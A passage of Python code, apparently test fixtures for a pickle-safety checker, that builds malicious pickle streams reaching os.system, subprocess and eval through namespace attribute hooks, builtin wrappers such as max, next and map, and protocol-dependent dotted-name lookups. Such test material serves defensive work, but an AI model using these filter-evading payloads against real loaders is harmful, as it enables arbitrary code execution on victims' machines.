    """``types.SimpleNamespace()`` whose instance attribute ``attr`` is ``fn`` (set by BUILD)."""
    ns = call(glob("types", "SimpleNamespace"))
    return ns + pickle.EMPTY_DICT + sbu(attr) + fn + pickle.SETITEM + pickle.BUILD


def namespace_setstate_second_build(m: str, d: Path) -> bytes:
    """First BUILD sets the instance attribute ``__setstate__ = os.system``; the second BUILD calls it with cmd."""
    return p2(_namespace_with("__setstate__", glob("os", "system")) + sbu(shell(m)) + pickle.BUILD)


def namespace_append_hook(m: str, d: Path) -> bytes:
    """APPEND on a non-list calls its ``append`` attribute: here ``os.system``."""
    return p2(_namespace_with("append", glob("os", "system")) + sbu(shell(m)) + pickle.APPEND)


def namespace_extend_hook(m: str, d: Path) -> bytes:
    """APPENDS on a non-list calls ``extend(items)``: ``subprocess.check_call(['touch', marker])``."""
    ns = _namespace_with("extend", glob("subprocess", "check_call"))
    return p2(ns + pickle.MARK + sbu("touch") + sbu(m) + pickle.APPENDS)


def namespace_additems_hook(m: str, d: Path) -> bytes:
    """ADDITEMS on a non-set calls its ``add`` attribute for each item."""
    ns = _namespace_with("add", sglob("os", "system"))
    return p4(ns + pickle.MARK + sbu(shell(m)) + pickle.ADDITEMS)


def max_of_one_callable(m: str, d: Path) -> bytes:
    """``max([os.system])`` returns its only element without comparing; then it is called."""
    return p2(
        call(call(glob("builtins", "max"), pickle.EMPTY_LIST + glob("os", "system") + pickle.APPEND), sbu(shell(m)))
    )


def next_iter_callable(m: str, d: Path) -> bytes:
    it = call(glob("builtins", "iter"), tup(glob("os", "system")))
    return p2(call(call(glob("builtins", "next"), it), sbu(shell(m))))


def list_pop_callable(m: str, d: Path) -> bytes:
    lst = pickle.EMPTY_LIST + glob("os", "system") + pickle.APPEND
    return p2(call(_call_method(lst, "pop"), sbu(shell(m))))


def dict_get_callable(m: str, d: Path) -> bytes:
    table = pickle.EMPTY_DICT + sbu("k") + glob("os", "system") + pickle.SETITEM
    return p2(call(_call_method(table, "get", sbu("k")), sbu(shell(m))))


def map_operator_call(m: str, d: Path) -> bytes:
    """``list(map(operator.call, [os.system], [cmd]))``: the dangerous callable is data for map."""
    fns = pickle.EMPTY_LIST + glob("os", "system") + pickle.APPEND
    lazy = call(glob("builtins", "map"), glob("operator", "call"), fns, const([shell(m)]))
    return p2(call(glob("builtins", "list"), lazy))


def dict_zip_map(m: str, d: Path) -> bytes:
    lazy = call(glob("builtins", "map"), glob("os", "system"), const([shell(m)]))
    return p2(call(glob("builtins", "dict"), call(glob("builtins", "zip"), const(["k"]), lazy)))


# -- protocol-dependent name resolution (find_class walks dotted names only when proto >= 4) ---------------------


def dotted_global_proto2(m: str, d: Path) -> bytes:
    """``GLOBAL builtins eval.__call__`` in a protocol-2 stream: getattr(builtins, 'eval.__call__') fails."""
    return p2(ccall(glob("builtins", "eval.__call__"), code(m)))


def dotted_stack_global_proto2(m: str, d: Path) -> bytes:
    """STACK_GLOBAL with a dotted name but PROTO 2: the loader does not walk the dots."""
    return p2(ccall(sglob("os", "path.os.system"), shell(m)))


def dotted_global_no_proto(m: str, d: Path) -> bytes:
    """Protocol 0 (no PROTO opcode) text GLOBAL with a dotted name: refused."""
    return b"cos\npath.os.system\n(" + string0(shell(m)) + b"tR."


def proto_switch_mid_stream(m: str, d: Path) -> bytes:
    """Header says PROTO 2; a second PROTO 4 later enables dotted lookups for the GLOBAL that follows."""
    body = const({"decoy": 1}) + pickle.POP + pickle.PROTO + bytes([4]) + ccall(glob("os", "path.os.system"), shell(m))
    return p2(body)


def proto4_text_global_dotted(m: str, d: Path) -> bytes:
    """PROTO 4 with the protocol-0 text GLOBAL opcode and a dotted name: walked, runs."""
    return p4(ccall(glob("os", "path.os.system"), shell(m)))
